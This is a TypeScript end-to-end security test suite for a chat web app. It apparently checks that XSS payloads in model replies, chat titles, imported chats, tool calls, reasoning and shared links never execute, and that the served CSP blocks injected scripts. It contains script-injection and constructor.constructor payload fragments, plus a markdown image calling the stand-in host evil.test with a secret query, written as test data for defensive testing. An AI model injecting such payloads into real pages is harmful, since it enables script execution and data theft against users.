import { randomUUID } from 'node:crypto';
import { ATTACKS, planted, watch } from './harness/attacks.ts';
import { atRest, expect, test } from './harness/story.ts';

test('what a model writes runs nowhere, at any point of its stream', async ({ page, chat }) => {
  test.setTimeout(120_000);
  const seen = await watch(page);
  await chat.open();
  for (const attack of [ATTACKS.slice(0, 9).join('\n\n'), ATTACKS.slice(9).join('\n\n')]) {
    // One character at a time: every split of every attack is drawn once.
    await chat.send(`Attack\n/script drip=4 text=${JSON.stringify(attack)}`);
    await chat.hasState('completed', 60_000);
    expect(seen).toEqual([]);
  }
  await atRest(page);
  expect(await planted(page)).toBe(0);
  await page.reload();
  await chat.hasState('completed');
  await atRest(page);
  expect(seen).toEqual([]);
});

test('what a person writes, and names, runs nowhere either', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  await chat.send(`${ATTACKS.join('\n')}\n/script text="ok" rate=0`);
  await chat.hasState('completed');
  for (const attack of ATTACKS.slice(0, 5)) {
    const answer = await page.request.patch(`/api/v1/chats/${chat.chatId}`, {
      data: {
        title: attack,
        description: attack,
        tags: [attack.slice(0, 60)],
        metadata: { [attack]: attack },
      },
    });
    expect(answer.ok()).toBe(true);
    await expect(page.locator('header h1')).toHaveText(attack);
  }
  await page.locator('header').getByRole('button', { name: 'Chat actions' }).click();
  await page.getByRole('menuitem', { name: 'Details' }).click();
  await expect(page.getByRole('complementary', { name: 'Chat details' })).toBeVisible();
  expect(await planted(page)).toBe(0);
  await page.reload();
  await chat.hasState('completed');
  expect(await planted(page)).toBe(0);
  expect(seen).toEqual([]);
});

test('what was brought in runs nothing and asks for nothing when it is opened', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  const [id, question, reply] = [randomUUID(), randomUUID(), randomUUID()];
  const all = { type: 'text', text: ATTACKS.join('\n\n') };
  const call = {
    type: 'tool_call',
    toolCallId: '1',
    name: ATTACKS[1],
    arguments: '{"url":"https://evil.test/tool"}',
  };
  const result = { type: 'tool_result', toolCallId: '1', result: ATTACKS.join('\n') };
  const document = {
    schema: 'parley.chat/1',
    id,
    title: ATTACKS[1],
    messages: [
      { id: question, parentId: null, role: 'user', content: [all] },
      { id: reply, parentId: question, role: 'assistant', content: [call, result, all] },
    ],
  };
  const answer = await page.request.post('/api/v1/chats/import', { data: document });
  expect(await answer.json()).toMatchObject({ added: 1, messages: 2 });
  const changes: string[] = [];
  page.on('request', (request) => {
    if (request.method() !== 'GET' && request.method() !== 'HEAD') changes.push(request.url());
  });
  await page.goto(`/c/${id}`);
  await expect(page.locator('header h1')).toHaveText(ATTACKS[1]!);
  await expect(page.locator('[data-role="assistant"]')).toBeVisible();
  await atRest(page);
  expect([await planted(page), seen, changes]).toEqual([0, [], []]);
});

test('a thought, a failure and a tool of a hostile model run nowhere', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  const attack = ATTACKS[1]!;
  await chat.send(`${attack}\n/script reasoning=5 tokens=3 rate=0 fail=end code=endpoint_error`);
  await chat.hasState('failed');
  await chat.send(
    `${attack}\n/script rate=0 text="x" tool=${JSON.stringify(attack)} arguments=${JSON.stringify(attack)}`,
  );
  await expect(chat.replies).toHaveCount(2);
  await expect(chat.reply).not.toHaveAttribute('data-state', /running|queued|unknown/);
  expect(await planted(page)).toBe(0);
  expect(seen).toEqual([]);
});

test('what is at a link runs nothing and asks for nothing, whatever was said, thought and named', async ({
  page,
  chat,
  visit,
  server,
}) => {
  await chat.open();
  await chat.send(
    `${ATTACKS.join('\n')}\n/script reasoning=3 rate=0 text=${JSON.stringify(ATTACKS.join('\n\n'))}`,
  );
  await chat.hasState('completed');
  const address = `/api/v1/chats/${chat.chatId}`;
  await page.request.patch(address, { data: { title: ATTACKS.slice(0, 3).join(' ') } });
  // A model may think what it likes.
  await server.database.db.$client.query(
    `UPDATE messages SET content = jsonb_set(content, '{0,text}', to_jsonb($2::text)) WHERE chat_id = $1 AND role = 'assistant'`,
    [chat.chatId, ATTACKS.join('\n\n')],
  );
  const made = await page.request.post(`${address}/shares`, { data: { includeReasoning: true } });
  const { url } = (await made.json()) as { url: string };
  const reader = await visit();
  const seen = await watch(reader);
  await reader.goto(url);
  await expect(reader.getByRole('heading', { level: 1 })).toContainText('<script>alert(1)</script>');
  await reader.getByRole('button', { name: 'Thoughts' }).click();
  await expect(reader.locator('[data-role="assistant"]')).toContainText('constructor.constructor');
  await atRest(reader);
  expect(await planted(reader)).toBe(0);
  await expect(reader.getByRole('button', { name: /from evil\.test/ }).first()).toBeVisible();
  expect(seen).toEqual([]);
});

test('a remote picture is not fetched, and its place names its host', async ({ page, chat }) => {
  const seen = await watch(page);
  await chat.open();
  await chat.send('Picture\n/script rate=0 text="![a cat](https://evil.test/cat.png?q=secret)"');
  await chat.hasState('completed');
  await expect(
    chat.reply.getByRole('button', { name: 'Show the image “a cat” from evil.test' }),
  ).toBeVisible();
  await atRest(page);
  expect(seen).toEqual([]);
});

test('the page is served with a policy that would stop a script that got through', async ({ page, chat }) => {
  await chat.open();
  const refused = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const refusals: string[] = [];
        addEventListener('securitypolicyviolation', (event) => {
          refusals.push(event.violatedDirective);
          if (refusals.includes('script-src-elem') && refusals.includes('img-src'))
            resolve([...refusals, String('ran' in window)]);
        });
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.body.append(script);
        const picture = document.createElement('img');
        picture.src = 'https://evil.test/x.png';
        document.body.append(picture);
      }),
  );
  expect(refused).toContain('script-src-elem');
  expect(refused).toContain('img-src');
  expect(refused.at(-1)).toBe('false');
});
